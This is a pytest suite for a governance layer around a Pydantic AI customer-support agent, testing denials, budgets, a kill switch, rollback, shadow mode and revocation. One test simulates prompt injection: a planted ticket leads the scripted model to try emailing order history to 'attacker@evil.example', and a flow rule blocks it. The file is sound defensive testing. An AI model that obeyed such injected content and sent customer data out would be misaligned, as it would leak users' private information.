"""A Pydantic AI agent governed by charter, driven through its real run loop with a
scripted FunctionModel: allowed calls, denials the model sees, flows, controls, budgets,
rollback and the journal."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("pydantic_ai", reason="the pydantic-ai extra is not installed")

from pydantic_ai import Agent, ModelRetry
from pydantic_ai.messages import ModelRequest
from pydantic_ai.models.function import FunctionModel

from charter import Journal
from charter.errors import ConfigError
from charter.integrations.pydantic_ai import RunStoppedError, govern
from charter.runtime import Controls
from charter.runtime._replay import replay
from databases import fresh_url
from integrations.pydantic_ai.pyd_world import (
    PLANTED,
    Script,
    charter,
    refunds,
    support_agent,
    undo_refund,
)


@pytest.fixture(params=["sqlite", "postgresql"])
def journal(request: pytest.FixtureRequest, tmp_path: Path) -> Journal:
    return Journal(fresh_url(str(request.param), tmp_path))


@pytest.fixture
def world(tmp_path: Path) -> Path:
    return tmp_path / "orders.db"


def _kinds(journal: Journal, run_id: str | None) -> list[str]:
    assert run_id is not None
    return [r.kind for r in journal.records(run_id)]


def _payloads(journal: Journal, run_id: str | None, kind: str) -> list[dict[str, Any]]:
    assert run_id is not None
    return [r.payload for r in journal.records(run_id) if r.kind == kind]


def test_an_allowed_call_runs_and_is_journaled_with_the_models_usage(
    journal: Journal, world: Path
) -> None:
    script = Script([[("lookup_order", {"order_id": 1042})], "Order 1042 is delivered."])
    ran: list[str] = []
    governed = govern(support_agent(script, world, ran), journal=journal, charter=charter())
    result = governed.run_sync("look up order 1042")
    assert result.output == "Order 1042 is delivered."
    assert ran == ["lookup_order"]
    assert script.returns()["lookup_order"] == {
        "order_id": 1042,
        "total": 42.0,
        "status": "delivered",
    }
    kinds = _kinds(journal, governed.last_run_id)
    assert kinds[0] == "run.started" and kinds[-1] == "run.finished"
    effect = _payloads(journal, governed.last_run_id, "step.effect")[0]
    assert effect["status"] == "ok" and effect["result"]["order_id"] == 1042
    proposed = _payloads(journal, governed.last_run_id, "step.proposed")
    assert proposed[0]["tokens"] == {"prompt": 10, "completion": 5}  # the first response
    assert proposed[-1]["tokens"] == {"prompt": 10, "completion": 5}  # the answer's
    finished = _payloads(journal, governed.last_run_id, "run.finished")[0]
    assert finished["status"] == "completed"
    assert journal.verify().ok


def test_a_denied_call_never_runs_and_the_model_sees_why(journal: Journal, world: Path) -> None:
    denying = charter(rules=[{"id": "no-mail", "effect": "deny", "tools": ["send_email"]}])
    script = Script(
        [
            [
                ("send_email", {"to": "kim@example.com", "body": "hi"}),
                ("delete_account", {"customer": 7}),
            ],
            "I could not do that.",
        ]
    )
    ran: list[str] = []
    governed = govern(support_agent(script, world, ran), journal=journal, charter=denying)
    result = governed.run_sync("email kim")
    assert result.output == "I could not do that." and ran == []
    failures = script.failures()
    assert len(failures) == 2
    assert "charter denied send_email" in failures[0] and "no-mail" in failures[0]
    assert "charter refused delete_account" in failures[1] and "unknown tool" in failures[1]
    decided = _payloads(journal, governed.last_run_id, "step.decided")
    assert [d["verdict"] for d in decided] == ["deny"]


def test_an_injected_target_is_held_by_the_untrusted_target_flow(
    journal: Journal, world: Path
) -> None:
    script = Script(
        [
            [("read_ticket", {"ticket": 88})],
            [("send_email", {"to": "attacker@evil.example", "body": "order history"})],
            "Done.",
        ]
    )
    ran: list[str] = []
    governed = govern(support_agent(script, world, ran), journal=journal, charter=charter())
    governed.run_sync("answer ticket 88")
    assert PLANTED in script.returns()["read_ticket"]
    assert ran == ["read_ticket"]  # the email never left
    assert "flow.untrusted-target" in script.failures()[0]
    decided = _payloads(journal, governed.last_run_id, "step.decided")
    assert decided[-1]["verdict"] == "deny" and "flow.untrusted-target" in decided[-1]["rules"]


def test_the_kill_switch_stops_a_running_agent_at_its_next_call(
    journal: Journal, world: Path
) -> None:
    script = Script(
        [
            [("lookup_order", {"order_id": 1})],
            [("lookup_order", {"order_id": 2})],
            "never reached",
        ]
    )
    governed = govern(support_agent(script, world), journal=journal, charter=charter())

    def pause_during(messages: Any, info: Any) -> Any:
        # The operator pulls the switch while the agent is between calls.
        if sum(1 for m in messages if isinstance(m, ModelRequest)) == 2:
            Controls(journal).pause("pyd-support", actor="ops", reason="incident 7")
        return script(messages, info)

    with pytest.raises(RunStoppedError, match="incident 7"):
        governed.run_sync("look up orders", model=FunctionModel(pause_during))
    finished = _payloads(journal, governed.last_run_id, "run.finished")[0]
    assert finished["status"] == "stopped"
    assert len(_payloads(journal, governed.last_run_id, "step.effect")) == 1
    assert journal.verify().ok


def test_model_usage_counts_against_the_token_budget(journal: Journal, world: Path) -> None:
    script = Script(
        [[("lookup_order", {"order_id": n})] for n in range(1, 6)] + ["done"], tokens=40
    )
    ran: list[str] = []
    budgeted = charter(budgets={"max_tokens": 100})
    governed = govern(support_agent(script, world, ran), journal=journal, charter=budgeted)
    with pytest.raises(RunStoppedError, match="token"):
        governed.run_sync("look up orders")
    assert ran == ["lookup_order", "lookup_order"]  # 60 then 120 tokens: the third is stopped
    exceeded = _payloads(journal, governed.last_run_id, "budget.exceeded")
    assert exceeded and exceeded[0]["rule"].startswith("budget")


def test_a_refund_is_rolled_back_by_its_compensation(journal: Journal, world: Path) -> None:
    allowing = charter(rules=[])
    script = Script([[("refund_order", {"order_id": 1042, "amount": 42.0})], "Refunded."])
    governed = govern(
        support_agent(script, world),
        journal=journal,
        charter=allowing,
        compensate={"refund_order": undo_refund(world)},
    )
    governed.run_sync("refund order 1042")
    assert refunds(world) == [(1042, 42.0)]
    assert governed.last_run_id is not None
    report = governed.rollback(governed.last_run_id, actor="ops")
    assert [(i.tool, i.outcome) for i in report.items] == [("refund_order", "compensated")]
    assert refunds(world) == []


def test_a_tool_error_is_journaled_and_reaches_the_model(journal: Journal) -> None:
    script = Script([[("lookup_order", {"order_id": 1})], "sorry"])
    agent = Agent(FunctionModel(script))

    @agent.tool_plain
    def lookup_order(order_id: int) -> str:
        raise ModelRetry("the orders service is down")

    governed = govern(agent, journal=journal, charter=charter())
    assert governed.run_sync("look up order 1").output == "sorry"
    effect = _payloads(journal, governed.last_run_id, "step.effect")[0]
    assert effect["status"] == "error" and "orders service is down" in effect["error"]
    retried = [
        p
        for r in script.seen
        for p in r.parts
        if p.part_kind == "tool-return" and p.outcome == "retried"
    ]
    assert retried and "orders service is down" in str(retried[0].content)


def test_bad_configuration_and_misuse_are_refused_with_one_clear_error(
    journal: Journal, world: Path
) -> None:
    agent = support_agent(Script(["hi"]), world)
    with pytest.raises(ConfigError, match="wire_money"):
        govern(agent, journal=journal, charter=charter(), compensate={"wire_money": print})
    governed = govern(agent, journal=journal, charter=charter())
    with pytest.raises(ValueError, match="goal"):
        governed.run_sync(None)


def test_in_the_shadow_phase_a_write_is_simulated_and_never_runs(
    journal: Journal, world: Path
) -> None:
    shadow = charter(rules=[], phase="shadow")
    script = Script([[("refund_order", {"order_id": 1042, "amount": 42.0})], "Refunded."])
    ran: list[str] = []
    governed = govern(support_agent(script, world, ran), journal=journal, charter=shadow)
    assert governed.run_sync("refund order 1042").output == "Refunded."
    assert ran == [] and refunds(world) == []
    assert script.returns()["refund_order"]["simulated"] is True
    effect = _payloads(journal, governed.last_run_id, "step.effect")[0]
    assert effect["status"] == "simulated"


def test_a_secret_output_is_withheld_from_the_model_and_the_journal(
    journal: Journal, world: Path
) -> None:
    contracts = charter().model_dump(exclude_defaults=True)["contracts"]
    secret = charter(contracts=contracts | {"lookup_order": {"confidentiality": "secret"}})
    script = Script([[("lookup_order", {"order_id": 1042})], "done"])
    governed = govern(support_agent(script, world), journal=journal, charter=secret)
    governed.run_sync("look up order 1042")
    seen = script.returns()["lookup_order"]
    assert "delivered" not in str(seen) and "withheld" in str(seen)
    records = str([r.payload for r in journal.records(str(governed.last_run_id))])
    assert "delivered" not in records


def test_a_write_interrupted_mid_call_is_in_doubt_when_the_run_is_resumed(
    journal: Journal, world: Path
) -> None:
    script = Script([[("refund_order", {"order_id": 1042, "amount": 42.0})], "Refunded."])
    agent = Agent(FunctionModel(script))

    @agent.tool_plain
    def refund_order(order_id: int, amount: float) -> str:
        raise KeyboardInterrupt  # the operator's ^C, after the payment left or not

    governed = govern(agent, journal=journal, charter=charter(rules=[]))
    with pytest.raises(KeyboardInterrupt):
        governed.run_sync("refund order 1042")
    run_id = str(governed.last_run_id)
    assert "run.finished" not in [r.kind for r in journal.records(run_id)]
    retry = Script([[("refund_order", {"order_id": 1042, "amount": 42.0})], "Refunded."])
    ran: list[str] = []
    again = govern(support_agent(retry, world, ran), journal=journal, charter=charter(rules=[]))
    again.run_sync("refund order 1042", charter_run_id=run_id)
    effects = _payloads(journal, run_id, "step.effect")
    assert effects[0]["status"] == "in_doubt"
    assert ran == [] and "effect.in_doubt" in retry.failures()[0]


def test_a_revocation_holds_from_the_next_call_and_replay_agrees(
    journal: Journal, world: Path
) -> None:
    script = Script(
        [
            [("lookup_order", {"order_id": 1})],
            [("send_email", {"to": "kim@example.com", "body": "hi"})],
            "I could not send it.",
        ]
    )
    ran: list[str] = []
    governed = govern(support_agent(script, world, ran), journal=journal, charter=charter())
    Controls(journal).revoke("send_email", actor="ops", reason="mail incident")
    governed.run_sync("look up order 1 and tell kim")
    assert ran == ["lookup_order"]
    assert "mail incident" in script.failures()[0]
    run_id = str(governed.last_run_id)
    steps = replay(journal, governed.identity, run_id)
    assert steps and not any(s.changed for s in steps)


def test_an_async_run_governs_the_tools_of_a_toolset_the_agent_was_given(
    journal: Journal, world: Path
) -> None:
    from pydantic_ai.toolsets import FunctionToolset

    def post_message(channel: str, text: str) -> str:
        return f"posted to {channel}"

    chat = FunctionToolset([post_message]).prefixed("chat")  # tools named chat_*
    script = Script(
        [
            [("chat_post_message", {"channel": "#support", "text": "hi"})],
            [("chat_post_message", {"channel": "#random", "text": "hi"})],
            "posted",
        ]
    )
    agent = Agent(FunctionModel(script), toolsets=[chat])
    declared = charter(
        contracts={"chat_post_message": {"side_effect": "external", "targets": ["channel"]}},
        rules=[
            {
                "id": "support-only",
                "effect": "deny",
                "tools": ["chat_post_message"],
                "when": 'context.args.channel != "#support"',
            }
        ],
    )
    governed = govern(agent, journal=journal, charter=declared)
    assert asyncio.run(governed.run("post in #support")).output == "posted"
    effects = _payloads(journal, governed.last_run_id, "step.effect")
    assert [e["result"] for e in effects] == ["posted to #support"]
    assert "support-only" in script.failures()[0]
    decided = _payloads(journal, governed.last_run_id, "step.decided")
    assert [d["verdict"] for d in decided] == ["allow", "deny"]


def test_a_structured_output_is_the_runs_answer(journal: Journal, world: Path) -> None:
    def model(messages: list[Any], info: Any) -> Any:
        from pydantic_ai.messages import ModelResponse, ToolCallPart

        if len(messages) == 1:
            return ModelResponse(parts=[ToolCallPart("lookup_order", {"order_id": 1042})])
        final = info.output_tools[0].name
        return ModelResponse(parts=[ToolCallPart(final, {"response": 1042})])

    agent = support_agent(Script(["unused"]), world)
    governed = govern(agent, journal=journal, charter=charter())
    result = governed.run_sync("which order?", model=FunctionModel(model), output_type=int)
    assert result.output == 1042
    finished = _payloads(journal, governed.last_run_id, "run.finished")[0]
    assert finished["status"] == "completed" and finished["answer"] == "1042"
